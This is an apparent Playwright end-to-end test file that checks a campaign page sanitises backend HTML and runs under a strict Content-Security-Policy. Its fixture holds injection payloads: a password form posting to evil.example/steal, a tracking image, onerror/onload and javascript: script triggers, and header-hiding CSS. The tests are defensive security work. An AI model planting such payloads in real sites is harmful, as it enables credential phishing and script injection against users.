/**
 * Backend HTML cannot restyle the app or post a form off-site, and the page runs
 * under the strict Content-Security-Policy (every spec fails on a violation: e2e/support/fixtures.ts).
 */
import { expect, msg, test } from './support/fixtures';

const hostile = {
  description:
    '<style>.app-header{display:none}</style><p>Free coffee for members</p>' +
    '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="password"></label><button>Sign in</button></form>' +
    '<img src="https://evil.example/track.gif" alt="tracker"><img src=x onerror="document.title=\'pwned\'">' +
    '<a href="javascript:document.title=\'pwned\'">bad link</a> <a href="https://partner.example/offer">partner offer</a>',
  condition: '<svg onload="document.title=\'pwned\'"><style>.app-header{display:none}</style></svg><ul><li>One per member</li></ul>',
};

/** Replaces the first description/condition found in a JSON answer (the platform spells them Detail and Condition). */
function poison(value: unknown): boolean {
  if (typeof value !== 'object' || value === null) return false;
  const record = value as Record<string, unknown>;
  if ('Detail' in record || 'Condition' in record) {
    record.Detail = hostile.description;
    record.Condition = hostile.condition;
    return true;
  }
  return Object.values(record).some(poison);
}

test('campaign HTML with a <style>, a password form, off-site images and script URLs stays inert', async ({ page }) => {
  await page.route(/\/sandbox\/modules\/campaign\/1001(\?|$)/, async (route) => {
    const response = await route.fetch();
    const body = (await response.json()) as unknown;
    expect(poison(body)).toBe(true);
    await route.fulfill({ response, json: body });
  });
  const offSite: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith('http://localhost')) offSite.push(request.url());
  });
  await page.goto('/campaign/1001');
  await expect(page.getByText('Free coffee for members')).toBeVisible();
  await expect(page.getByText('One per member')).toBeVisible();
  // The header is still there, and no form or input came from the campaign.
  await expect(page.locator('header.app-header')).toBeVisible();
  const rich = page.locator('.rich-text');
  await expect(rich.locator('form, input, button, style, svg, img')).toHaveCount(0);
  await expect(rich.getByRole('link', { name: 'bad link' })).toHaveCount(0);
  const partner = rich.getByRole('link', { name: 'partner offer' });
  await expect(partner).toHaveAttribute('href', 'https://partner.example/offer');
  await expect(partner).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(partner).toHaveAttribute('target', '_blank');
  expect(await page.title()).not.toBe('pwned');
  expect(offSite).toEqual([]);
});

test('the page carries the strict policy and refuses an inline script or style; its own inlined stylesheet applies', async ({ page, cspViolations }) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(msg('th', 'reward.title'));
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("script-src 'self';");
  // The one inline style allowed is the build's own (the entry stylesheet, by its hash), and it applies.
  expect(policy).toMatch(/style-src 'self' 'sha256-[A-Za-z0-9+/]+=*';/);
  expect(await page.evaluate(() => getComputedStyle(document.body).fontFamily)).toMatch(/^"Noto Sans Thai", system-ui/);
  expect(await page.locator('link[rel="stylesheet"][href^="/assets/app-"]').evaluateAll((links) => links.map((l) => (l as HTMLLinkElement).disabled))).toEqual([true]);
  expect(policy).toContain("object-src 'none'");
  expect(policy).toContain("base-uri 'none'");
  expect(policy).toContain("form-action 'self'");
  // (Playwright's own evaluate is exempt from the policy, so the injected script is the probe.)
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'document.documentElement.dataset.injected = "ran"';
    document.head.append(script);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return document.documentElement.dataset.injected ?? 'blocked';
  });
  expect(ran).toBe('blocked');
  const styled = await page.evaluate(async () => {
    const style = document.createElement('style');
    style.textContent = 'html { --injected: ran; }';
    document.head.append(style);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return getComputedStyle(document.documentElement).getPropertyValue('--injected').trim() || 'blocked';
  });
  expect(styled).toBe('blocked');
  // The refused script and style are the violations this test expects; any other still fails it.
  await expect.poll(() => cspViolations.violations.length).toBeGreaterThan(1);
  cspViolations.violations = cspViolations.violations.filter((v) => !/(script|style)-src(-elem)? blocked inline|inline (script|style)/i.test(v));
});

test('the flow player draws its chart and controls under the strict policy (no inline style refused)', async ({ page }) => {
  await page.goto('/dev/flows?flow=favouriteToggle');
  const chart = page.getByRole('img', { name: /Favourite heart|favouriteToggle/ });
  await expect(chart).toBeVisible();
  // The state the flow is in is highlighted, the others are white boxes (not the black of an unstyled SVG).
  const fills = await page.locator('.flow-chart g.state > rect.box').evaluateAll((boxes) => boxes.map((box) => getComputedStyle(box).fill));
  expect(fills.length).toBeGreaterThan(5);
  expect(fills.filter((fill) => fill === 'rgb(255, 247, 214)')).toHaveLength(1);
  expect(fills.filter((fill) => fill === 'rgb(0, 0, 0)')).toEqual([]);
  // The player's own stylesheet applies to the event buttons.
  const eventButton = page.locator('.flow-player__events button').first();
  expect(await eventButton.evaluate((button) => getComputedStyle(button).backgroundColor)).toBe('rgb(232, 241, 251)');
});
